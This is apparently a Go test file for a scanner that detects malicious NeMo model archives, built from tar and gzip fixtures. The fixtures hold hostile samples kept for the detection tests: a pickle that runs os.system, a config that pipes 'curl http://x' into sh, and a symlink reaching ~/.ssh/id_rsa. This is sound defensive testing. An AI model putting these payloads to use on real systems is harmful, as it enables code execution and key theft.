package nemo_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"os"
	"slices"
	"testing"

	"github.com/modelvet/modelvet/formats"
	_ "github.com/modelvet/modelvet/formats/all"
	"github.com/modelvet/modelvet/formats/formatstest"
)

type entry struct {
	name, link string
	data       []byte
}

// nemoTar writes a tar the way NeMo's save_to does ("./"-prefixed names).
func nemoTar(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, e := range entries {
		h := &tar.Header{Name: e.name, Mode: 0o644, Size: int64(len(e.data)), Typeflag: tar.TypeReg}
		if e.link != "" {
			h = &tar.Header{Name: e.name, Mode: 0o777, Typeflag: tar.TypeSymlink, Linkname: e.link}
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if e.link == "" {
			tw.Write(e.data)
		}
	}
	tw.Close()
	return b.Bytes()
}

func gz(b []byte) []byte {
	var o bytes.Buffer
	w := gzip.NewWriter(&o)
	w.Write(b)
	w.Close()
	return o.Bytes()
}

func read(t testing.TB, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// evilPickle is what torch.load would run: os.system("id").
var evilPickle = []byte("cos\nsystem\n(S'id'\ntR.")

func TestNeMo(t *testing.T) {
	cfg := read(t, "../hydra/testdata/conformer_ctc_model_config.yaml")
	weights := read(t, "testdata/model_weights.ckpt")
	evilCfg := []byte("preprocessor:\n  _target_: posixpath.os.system\n  _args_: ['curl http://x | sh']\n")
	cases := []struct {
		name string
		data []byte
		want []string
	}{
		{"real-shaped conformer .nemo", nemoTar(t, entry{name: "./model_config.yaml", data: cfg}, entry{name: "./model_weights.ckpt", data: weights}, entry{name: "./ca6d5e2f_tokenizer.model", data: []byte("\n\x05<unk>")}), nil},
		{"real-shaped gzip .nemo (NeMo < 1.7)", gz(nemoTar(t, entry{name: "./model_config.yaml", data: cfg}, entry{name: "./model_weights.ckpt", data: weights})), nil},
		{"CVE-2025-23304 alias target in model_config.yaml", nemoTar(t, entry{name: "./model_config.yaml", data: evilCfg}, entry{name: "./model_weights.ckpt", data: weights}), []string{"hydra/dangerous-target"}},
		{"dangerous target in a gzip .nemo", gz(nemoTar(t, entry{name: "model_config.yaml", data: evilCfg})), []string{"hydra/dangerous-target"}},
		{"nested NeMo target under encoder in a .nemo", nemoTar(t, entry{name: "./model_config.yaml", data: []byte("target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  target: posixpath.os.system\n")}), []string{"hydra/dangerous-target"}},
		{"unknown target class", nemoTar(t, entry{name: "./model_config.yaml", data: []byte("encoder:\n  _target_: acme.Encoder\n")}), []string{"hydra/unknown-target"}},
		{"pickle payload as model_weights.ckpt", nemoTar(t, entry{name: "./model_config.yaml", data: cfg}, entry{name: "./model_weights.ckpt", data: evilPickle}), []string{"pickle/dangerous-import"}},
		{"artifact link out of the extraction folder", nemoTar(t, entry{name: "./model_config.yaml", data: cfg}, entry{name: "./tokenizer.model", link: "../../../home/user/.ssh/id_rsa"}), []string{"archive/path-escape"}},
		{"two model_config.yaml members", nemoTar(t, entry{name: "./model_config.yaml", data: cfg}, entry{name: "./model_config.yaml", data: evilCfg}), []string{"archive/duplicate-name", "hydra/dangerous-target"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := formatstest.ScanBytes(t, "model.nemo", c.data, nil)
			got := formatstest.Rules(r, formats.High)
			slices.Sort(got)
			got = slices.Compact(got)
			if !slices.Equal(got, c.want) {
				t.Errorf("rules = %v, want %v\n%s", got, c.want, formatstest.Describe(r))
			}
			if r.Format != "nemo" && r.Format != "gzip" {
				t.Errorf("format = %q, want nemo (or gzip around it)", r.Format)
			}
		})
	}
}

func FuzzNeMo(f *testing.F) {
	cfg := read(f, "../hydra/testdata/conformer_ctc_model_config.yaml")
	f.Add(nemoTar(f, entry{name: "./model_config.yaml", data: cfg}, entry{name: "./model_weights.ckpt", data: read(f, "testdata/model_weights.ckpt")}))
	f.Add(nemoTar(f, entry{name: "./model_config.yaml", data: []byte("a: &a [*a]\nm: {_target_: os.system}\n")}))
	f.Add(gz(nemoTar(f, entry{name: "model_config.yaml", data: cfg})))
	o := formats.DefaultOptions()
	o.Hash = false
	f.Fuzz(func(t *testing.T, b []byte) {
		formats.ScanReader("model.nemo", bytes.NewReader(b), int64(len(b)), &o)
	})
}

// BenchmarkNeMo scans a .nemo whose weights are 64 MiB of stored tensor
// data: the config is parsed, the weights' pickle read, the data skipped.
func BenchmarkNeMo(b *testing.B) {
	cfg := read(b, "../hydra/testdata/conformer_ctc_model_config.yaml")
	data := nemoTar(b, entry{name: "./model_config.yaml", data: cfg}, entry{name: "./model_weights.ckpt", data: read(b, "testdata/model_weights.ckpt")},
		entry{name: "./big_artifact.bin", data: make([]byte, 64<<20)})
	o := formats.DefaultOptions()
	o.Hash = false
	b.SetBytes(int64(len(data)))
	for range b.N {
		formats.ScanReader("model.nemo", bytes.NewReader(data), int64(len(data)), &o)
	}
}

func TestGzipNeMoIsNeMo(t *testing.T) {
	cfg := read(t, "../hydra/testdata/conformer_ctc_model_config.yaml")
	r := formatstest.ScanBytes(t, "model.nemo", gz(nemoTar(t, entry{name: "./model_config.yaml", data: cfg})), nil)
	found := false
	for k, v := range r.Details {
		if v == "nemo" {
			found = true
		}
		_ = k
	}
	if r.Format != "nemo" && !found {
		t.Errorf("a gzip .nemo is not read as NeMo: format %q, details %v", r.Format, r.Details)
	}
}
